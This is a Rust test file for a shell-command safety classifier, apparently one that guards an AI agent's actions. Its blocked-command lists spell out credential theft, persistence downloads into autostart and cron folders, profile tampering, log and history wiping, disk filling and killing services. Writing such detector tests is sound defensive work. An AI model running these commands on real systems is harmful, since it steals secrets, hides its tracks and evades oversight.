//! Effects that every program has, known or not.

use crate::pure::step::Decision;
use crate::pure::step::sample::shell;

fn stopped(commands: &[&'static str]) {
    for command in commands {
        assert!(shell(command).decision >= Decision::Ask, "not stopped: {command}");
    }
}

fn silent(commands: &[&'static str]) {
    for command in commands {
        let decision = shell(command);
        assert!(decision.decision < Decision::Ask, "stopped: {command}: {:?}", decision.findings);
    }
}

#[test]
fn a_key_is_read_by_whatever_program_gets_its_path() {
    stopped(&[
        "frobnicate /home/user/.ssh/id_rsa",
        "frobnicate -f ~/.ssh/id_ed25519",
        "frobnicate --config=$HOME/.aws/credentials",
        "frobnicate @/home/user/.ssh/id_rsa",
        "frobnicate 'Include /home/user/.ssh/id_rsa'",
        "echo ~/.ssh/id_rsa | cpio -o",
        "ssh -F ~/.ssh/id_rsa x",
        "docker cp ~/.ssh/id_rsa box:key",
        "mv ~/.ssh /tmp/",
    ]);
    silent(&[
        "ssh -i ~/.ssh/id_rsa host true",
        "frobnicate --private-key ~/.ssh/id_rsa",
        "ls -l ~/.ssh/id_rsa",
        "chmod 600 ~/.ssh/id_rsa",
        "frobnicate ~/.ssh/id_rsa.pub",
        "git commit -m 'Explain /home/user/.ssh/id_rsa'",
        "wget -qO - https://host.example/release.key | apt-key add -",
    ]);
}

#[test]
fn a_profile_is_written_by_whatever_program_gets_its_path() {
    stopped(&[
        "frobnicate x -o ~/.bashrc",
        "frobnicate --log /home/user/.zshrc",
        "frobnicate 'open:/home/user/.ssh/authorized_keys,creat'",
        "openssl enc -in x -out ~/.profile",
        "docker cp box:x ~/.bashrc",
    ]);
    silent(&["grep alias ~/.bashrc", "source ~/.bashrc", "bash ~/.bashrc", "wc -l ~/.zshrc"]);
}

#[test]
fn a_verb_that_destroys_means_that_in_a_program_that_no_table_knows() {
    stopped(&["frobctl env destroy prod", "frobctl cluster delete x", "frobctl dns records-delete 1"]);
    silent(&[
        "frobctl cluster delete x --dry-run",
        "frobctl remove x",
        "echo delete",
        "npm run delete",
        "rails destroy model x",
    ]);
}

#[test]
fn of_two_options_that_contradict_each_other_the_last_one_counts() {
    stopped(&[
        "kubectl drain node-a --dry-run=server --dry-run=false",
        "tofu destroy --help --help=false",
        "restic --compression max forget latest --prune",
        "aws route53 --prof prod delete-hosted-zone --id zone",
    ]);
    silent(&["kubectl drain node-a --dry-run=false --dry-run=server", "restic --compression max snapshots"]);
}

#[test]
fn a_star_leaves_hidden_files_alone_unless_the_shell_is_told_otherwise() {
    let denies_own = |command: &'static str| {
        shell(command).findings.iter().any(|finding| finding.rule.as_str() == "own_files")
    };
    for command in
        ["rm -rf *", "mv * old/", "find . -name *.pyc -delete", "find . | grep pycache | xargs rm -rf"]
    {
        assert!(!denies_own(command), "{command}");
    }
    for command in [
        "rm -rf .*",
        "shopt -s dotglob; rm -rf *",
        "rm -rf .[!.]*",
        "rsync -a --delete empty/ ./",
        "find . -type f -delete",
        "find . -name '*.json' -delete",
    ] {
        assert!(denies_own(command), "{command}");
    }
}

#[test]
fn an_emptied_file_is_lost_like_a_deleted_one() {
    stopped(&[
        ": > ~/.bash_history",
        "> /var/log/syslog",
        "echo '' > /var/log/secure",
        "cat /dev/null > /var/log/syslog",
        "ln -sf /dev/null ~/.bash_history",
    ]);
    silent(&[
        "for x in a b; do echo $x; done > /dev/null",
        "{ echo a; } > /tmp/x",
        ": > /tmp/x",
        "echo a > /tmp/x",
    ]);
}

#[test]
fn services_of_the_machine_are_not_the_agents_to_end() {
    stopped(&[
        "for pid in $(ps -eo pid,comm | grep nginx | awk '{print $1}'); do kill $pid; done",
        "pkill mysqld",
        "echo 'x' | at now + 1 minute",
        "systemd-run --user --on-calendar '*:0/1' x",
    ]);
    silent(&[
        "kill $(lsof -ti:3000)",
        "pkill -f vite",
        "kill $(ps aux | grep '[v]ite' | awk '{print $2}')",
        "at -l",
        "systemd-run --user --scope make",
    ]);
}

#[test]
fn git_reads_and_writes_files_like_any_program() {
    stopped(&[
        "git grep --no-index '' ~/.ssh/id_rsa",
        "git config --file ~/.git-credentials --list",
        "git commit --allow-empty -F ~/.ssh/id_rsa",
        "git hash-object -w --stdin < ~/.ssh/id_rsa",
        "git archive --add-file=$HOME/.ssh/id_rsa HEAD",
        "git bundle create ~/.bashrc HEAD",
    ]);
    silent(&[
        "git grep -n key src",
        "git config --file ~/.gitconfig --list",
        "git config user.signingkey ~/.ssh/id_ed25519",
        "git commit -F message.txt",
        "git bundle create /tmp/x.bundle HEAD",
    ]);
}

#[test]
fn a_folder_whose_files_run_by_themselves_is_as_good_as_a_file_in_it() {
    stopped(&[
        "curl --output-dir ~/.config/autostart -O https://example.com/x.desktop",
        "wget -P ~/.config/autostart https://example.com/x.desktop",
        "wget --directory-prefix=/etc/cron.d https://example.com/x",
        "cd ~/.ssh && wget https://example.com/authorized_keys",
        "frobnicate --dir ~/.config/systemd/user x",
    ]);
    silent(&[
        "ls ~/.config/autostart",
        "mkdir -p ~/.config/systemd/user",
        "wget -P vendor https://example.com/x.tar.gz",
        "curl --output-dir /tmp -O https://example.com/x.tar.gz",
    ]);
}

#[test]
fn what_a_container_reads_and_writes_in_a_shared_folder_counts_here() {
    stopped(&[
        "docker run --rm -v $HOME:/h alpine sh -c 'echo x >> /h/.bashrc'",
        "docker run --rm -v $HOME:/h alpine cp /x /h/.bashrc",
        "docker run --rm -v ~/.ssh:/k:ro alpine cat /k/id_rsa",
    ]);
    silent(&[
        "docker run --rm -v $HOME:/h:ro alpine sh -c 'echo x >> /h/.bashrc'",
        "docker run --rm -v $PWD:/w alpine sh -c 'npm ci > /w/log'",
        "docker run --rm alpine sh -c 'echo x >> /root/.bashrc'",
    ]);
}

#[test]
fn commands_on_the_input_of_a_client_name_files_too() {
    stopped(&[
        "ftp -n host <<< 'get x /home/user/.bashrc'",
        "sftp host <<< 'get x /home/user/.bashrc'",
        "ansible localhost -m copy -a 'content=x dest=/home/user/.bashrc'",
        "ansible-playbook -e @/home/user/.ssh/id_rsa play.yml",
        "openssl asn1parse -in ~/.ssh/id_rsa",
        "less -O ~/.bashrc README.md",
        "find /etc -name shadow -exec cat {} \\;",
        "tar rf x.tar ~/.ssh/id_rsa",
        "strings /proc/$(pgrep ssh-agent)/mem",
    ]);
    silent(&[
        "ftp -n host <<< 'get x dist/x'",
        "ansible-playbook --private-key ~/.ssh/id_rsa play.yml",
        "ansible all -m ping -e ansible_ssh_private_key_file=$HOME/.ssh/id_rsa",
        "openssl dgst -sha256 ~/.ssh/id_rsa",
        "find /etc -name hosts -exec cat {} \\;",
        "cat /proc/self/status",
    ]);
}

#[test]
fn traces_stay_and_disks_do_not_fill() {
    stopped(&[
        "HISTFILE=/dev/null",
        "export HISTSIZE=0",
        "echo '' | sudo tee /var/log/lastlog",
        "sudo sed -i /me/d /var/log/auth.log",
        "grep -v me /var/log/auth.log > /tmp/l && mv /tmp/l /var/log/auth.log",
        "yes > /tmp/x",
        "cat /dev/zero > ~/x",
        "dd if=/dev/zero of=/tmp/x bs=1M",
    ]);
    silent(&[
        "HISTSIZE=5000",
        "tail /var/log/auth.log > /tmp/l",
        "echo done >> /var/log/app.log",
        "yes | head -3 > /tmp/x",
        "yes > /dev/null",
        "dd if=/dev/zero of=/tmp/x bs=1M count=10",
    ]);
}

#[test]
fn stores_of_passwords_are_read_in_every_spelling() {
    stopped(&[
        "security find-generic-password -wa x",
        "secret-tool search --all x y",
        "keyring get service user",
        "aws configure get aws_secret_access_key",
    ]);
    silent(&["security find-generic-password -a x", "keyring --list-backends", "aws configure get region"]);
}
